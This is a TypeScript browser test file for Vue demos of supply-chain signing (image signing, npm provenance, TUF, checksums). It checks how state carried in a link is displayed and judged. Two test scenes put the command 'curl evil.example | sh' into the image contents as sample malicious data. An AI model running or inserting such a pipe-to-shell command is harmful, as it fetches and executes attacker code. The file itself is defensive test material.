/** A link to a scene: what it makes of the scene is never somebody's expectation that nobody here has had. */
import { afterEach, expect, test } from 'vitest'
import { cleanup, render } from 'vitest-browser-vue'
import { type Component, h, nextTick, ref } from 'vue'
import '../../styles/tokens.css'
import { beginAfresh } from '../support/afresh.ts'
import { packedLink } from '../support/demo-link.ts'

const COMPONENTS = import.meta.glob<{ default: Component }>('../../components/demos/*Demo.vue')
/** For one answer of a worker that has yet to start, on a busy machine, milliseconds. */
const PATIENCE = 20_000

beginAfresh()
afterEach(() => cleanup())

const [person, says, suffix, wanted] = ['署名する人', 'image の中身', '共通の続き', '求める cosignature']
const bob = { person: 'bob' }

type Scene = [
  file: string,
  name: string,
  state: object,
  clicks: number | undefined,
  verdict: string,
  expects?: string,
  brings?: string,
]

/** Scene, link, clicks after it was followed; what it comes to, and which of it is called the link's. */
const SCENES: Scene[] = [
  ['Image', 'image', bob, 5, 'verified', person],
  ['Image', 'image', { says: 'curl evil.example | sh' }, 5, 'verified', undefined, says],
  ['Image', 'image', { ...bob, says: 'curl evil.example | sh' }, 5, 'verified', person, says],
  ['Image', 'image', { layout: 'tag' }, 5, 'verified'],
  ['Image', 'image', { person: 'alice' }, 5, 'verified'],
  ['Keyless', 'keyless', bob, 12, 'verified', person],
  ['Keyless', 'keyless', { log: 'v2' }, 12, 'verified'],
  ['Entries', 'entries', bob, 1, 'verified', person],
  ['Entries', 'entries', { log: 'v2' }, 1, 'verified'],
  ['Npm', 'npm', { from: 'fork', publishing: 'secret' }, 12, 'rejected'],
  ['Npm', 'npm', { attack: 'statement' }, 12, 'rejected'],
  ['Npm', 'npm', { log: 'v2' }, 12, 'verified'],
  ['TenMinutes', 'ten-minutes', { log: 'v2' }, undefined, 'verified'],
  ['LabAttack', 'lab-attack', { attack: 'another-person' }, undefined, 'rejected'],
  ['Tiles', 'tiles', { attack: 'forked', index: 7 }, undefined, 'rejected'],
  ['Tiles', 'tiles', { attack: 'forked', needs: 'none' }, undefined, 'verified', wanted],
  ['Tuf', 'tuf', { attack: 'two-stolen', client: 'regular' }, undefined, 'rejected'],
  ['PostQuantum', 'post-quantum', { scene: 'changed', part: 'signature', at: 9 }, undefined, 'rejected'],
  ['Checksum', 'checksum', { suffix: 'evil' }, undefined, 'verified', undefined, suffix],
]

test.each<Scene>(SCENES)(
  '%s: %s %o is called the link’s where it says whom to expect, or what to judge',
  async (file, name, state, to, verdict, expects, brings) => {
    const hash = `#${name}-20=${await packedLink(state)}`
    history.replaceState(null, '', `${location.pathname}${location.search}${hash}`)
    const demo = (await COMPONENTS[`../../components/demos/${file}Demo.vue`]?.())?.default
    if (!demo) throw new Error(`no demo ${file}`)
    const clicks = ref(0)
    const props = () => (to === undefined ? { scenario: 'genuine' } : { clicks: clicks.value })
    const { container } = await render(() => h('div', { style: 'height: 551px' }, h(demo, props())))
    const find = (selector: string) => container.querySelector<HTMLElement>(selector)
    const shell = () => find('[data-demo]')?.dataset
    await expect.poll(() => shell()?.reportState, { timeout: PATIENCE }).toBe('done')
    if (expects ?? brings) await expect.poll(() => find('[data-from-link]'), { timeout: 5000 }).not.toBeNull()
    clicks.value = to ?? 0
    await nextTick()
    await expect
      .poll(() => `${shell()?.reportState} ${shell()?.verdict}`, { timeout: PATIENCE })
      .toBe(`done ${verdict}`)
    expect(find('[data-expectations] b')?.textContent).toBe(expects)
    expect(find('[data-files] b')?.textContent).toBe(brings)
    const isLinked = expects !== undefined || brings !== undefined
    if (isLinked) expect(find('.banner--verified')).toBeNull()
  },
)

test('every scene that has a link is there, but for those that verify nothing a link sets', () => {
  const scenes = new Set(SCENES.map(([file]) => file))
  const others = ['CosignKey', 'Matrix', 'Monitor', 'Openpgp', 'OwnKey', 'Sigstore', 'Transplant']
  const all = Object.keys(COMPONENTS).map((path) => /(\w+)Demo\.vue$/.exec(path)?.[1])
  expect([...scenes, ...others].sort()).toEqual(all.sort())
})
